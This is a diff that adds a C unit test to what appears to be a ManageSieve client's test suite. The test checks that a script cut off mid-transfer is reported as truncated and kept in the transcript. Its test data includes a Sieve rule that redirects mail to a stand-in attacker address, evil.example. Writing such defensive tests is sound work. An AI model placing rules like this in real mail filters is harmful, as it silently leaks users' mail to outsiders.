@@ -244,6 +244,33 @@ static void hostile_scripts_end_it_with_a_sentence(void **state)
     }
 }
 
+static void a_script_cut_off_stays_in_the_transcript(void **state)
+{
+    struct wire wire;
+    struct buf file;
+
+    (void)state;
+    sign_in(&wire);
+    fetch(&wire);
+    wire_say(&wire, "\"x\"\r\nOK\r\n");
+    wire_hear(&wire, "GETSCRIPT \"x\"\r\n");
+    wire_say(&wire, "{100}\r\nredirect \"a@evil.example\";");
+    wire_hang_up(&wire);
+    wire_frame(&wire, NET_NOTE);
+    assert_true(str_equal(wire_field(&wire, NET_RULE), str_of("truncated")));
+    assert_true(str_equal(wire_field(&wire, NET_TEXT),
+                          str_of("script \"x\": object 1: 26 of 100 bytes came")));
+    wire_refused(&wire, "localhost closed the connection");
+    wire_frames_end(&wire);
+    wire_file(wire.transcript, &file);
+    assert_non_null(memmem(file.at, file.len, "redirect \"a@evil.example\";", 26));
+    buf_dispose(&file);
+    wire_file(wire.segment, &file);
+    assert_int_equal(file.len, 0); /* no half record */
+    buf_dispose(&file);
+    wire_stop(&wire);
+}
+
 static void more_scripts_than_we_read_are_noted(void **state)
 {
     struct wire wire;
@@ -330,6 +357,7 @@ int main(int argc, char **argv)
         cmocka_unit_test(tokens_work_and_their_refusal_is_explained),
         cmocka_unit_test(hostile_answers_end_it_with_a_sentence),
         cmocka_unit_test(hostile_scripts_end_it_with_a_sentence),
+        cmocka_unit_test(a_script_cut_off_stays_in_the_transcript),
         cmocka_unit_test(more_scripts_than_we_read_are_noted),
         cmocka_unit_test(starttls_protects_scripts_as_it_does_mail),
     };
